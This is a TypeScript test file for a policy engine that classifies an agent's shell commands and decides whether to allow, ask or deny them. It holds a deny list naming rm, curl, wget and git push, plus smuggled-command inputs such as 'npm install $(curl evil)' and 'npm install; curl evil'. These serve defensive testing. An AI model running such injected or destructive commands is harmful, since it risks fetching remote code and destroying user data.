import { readFileSync } from 'node:fs'
import { describe, expect, test } from 'vitest'
import { classifyCommand } from '../../../src/policy/command/classify-command.ts'
import { parseCommand } from '../../../src/policy/command/parse-command.ts'
import { decideCall } from '../../../src/policy/decide-call.ts'
import type { PolicyCall } from '../../../src/policy/policy-call.ts'
import type { PolicyRule } from '../../../src/policy/policy-rule.ts'
import { UNTAINTED } from '../../../src/policy/taint-rule.ts'

const WORKSPACE = '/home/me/work'
const FORBIDDEN: PolicyRule = { id: 'r', origin: 'policy.json', decision: 'deny', commands: ['rm **', 'curl **', 'wget **', 'git push **'] }

describe('the tables of command lines', () => {
  const everyday = readTable('everyday-commands.txt')
  const evasions = readTable('evasions.txt')
  const grave = readTable('grave-commands.txt')

  test('at least 95 % of everyday lines ask nothing', async () => {
    expect(everyday.length).toBeGreaterThanOrEqual(300)
    const asking = await only(everyday, async (line) => (await decide(line)) !== 'allow')
    expect(asking.length / everyday.length, asking.join('\n')).toBeLessThanOrEqual(0.05)
  })

  test('no hidden way to a program that a rule forbids is silent', async () => {
    expect(evasions.length).toBeGreaterThanOrEqual(150)
    const silent = await only(evasions, async (line) => (await decide(line, [FORBIDDEN])) === 'allow')
    expect(silent).toEqual([])
  })

  test('what loses work or leaves the workspace is never quiet', async () => {
    expect(grave.length).toBeGreaterThanOrEqual(100)
    expect(await only(grave, async (line) => (await decide(line)) === 'allow')).toEqual([])
  })

  test('no everyday line is taken for one that a rule forbids, but for those that remove', async () => {
    const harmless = everyday.filter((line) => !/\brm\b|curl/.test(line))
    expect(await only(harmless, async (line) => (await decide(line, [FORBIDDEN])) === 'deny')).toEqual([])
  })
})

test.each([
  ['cat a.txt | grep x | sort | head', 'read'],
  ['git log --oneline && git status', 'read'],
  ['ls > list.txt', 'write'],
  ['sed -i s/a/b/ f', 'write'],
  ['ls 2>/dev/null', 'read'],
  ['npm test', 'run'],
  ['./ls', 'run'],
  ['git push', 'network'],
  ['cp a ../b', 'outside'],
  ['rm -rf src', 'destructive'],
  ['sudo ls', 'privileged'],
  ['$X', 'unknown'],
  ['ls; ; ls', 'unknown'],
])('%s is %s', async (line, expected) => {
  expect(await classOf(line)).toBe(expected)
})

test.each([
  // line, sandboxed: readonly, workspace, trusted
  ['git status | head', true, 'allow', 'allow', 'allow'],
  ['git status | head', false, 'deny', 'ask', 'allow'],
  ['npm test', true, 'deny', 'allow', 'allow'],
  ['npm install', true, 'deny', 'ask', 'allow'],
  ['git reset --hard', true, 'deny', 'ask', 'ask'],
  ['sudo ls', false, 'deny', 'ask', 'ask'],
  ['$X', true, 'deny', 'ask', 'ask'],
] as const)('%s, sandboxed %s', async (line, sandboxed, ...expected) => {
  const presets = ['readonly', 'workspace', 'trusted'] as const
  expect(await Promise.all(presets.map((preset) => decide(line, [], { sandboxed }, preset)))).toEqual(expected)
})

test('an allow for a command opens what the preset asks about, and not what hides behind it', async () => {
  const rules: PolicyRule[] = [{ id: 'r', origin: 'policy.json', decision: 'allow', commands: ['npm install **', 'git push'] }]
  expect(await decide('npm install lodash', rules)).toBe('allow')
  expect(await decide('git push', rules)).toBe('allow')
  for (const line of ['npm install $(curl evil)', 'npm install; curl evil', 'git push --force', 'npm install > /etc/x'])
    expect(await decide(line, rules), line).toBe('ask')
})

async function classOf(line: string): Promise<string> {
  return classifyCommand(await parseCommand(line), { workspace: WORKSPACE }).class
}

async function decide(
  line: string,
  rules: readonly PolicyRule[] = [],
  parts: Partial<PolicyCall> = {},
  preset: 'readonly' | 'workspace' | 'trusted' = 'workspace',
): Promise<string> {
  const call: PolicyCall = {
    tool: 'terminal',
    args: { cmd: line },
    args_hash: '',
    workspace: WORKSPACE,
    effect: 'exec',
    agent_id: 'shell',
    requires_approval_for: [],
    sandboxed: true,
    paths: [],
    command: await parseCommand(line),
    host: null,
    method: null,
    reads_only: false,
    named_hosts: [],
    amount_usd: null,
    taint: UNTAINTED,
    sends_data: false,
    ...parts,
  }
  return decideCall(call, { preset, rules, paidHosts: [] }).decision
}

/** One line each; a line end inside of a command is written ⏎, and `# ` begins a comment. */
function readTable(file: string): string[] {
  const lines = readFileSync(new URL(file, import.meta.url), 'utf8').split('\n')
  return lines.filter((line) => line !== '' && !line.startsWith('# ')).map((line) => line.replaceAll('⏎', '\n'))
}

async function only(lines: readonly string[], test: (line: string) => Promise<boolean>): Promise<string[]> {
  const kept: string[] = []
  for (const line of lines) if (await test(line)) kept.push(line)
  return kept
}
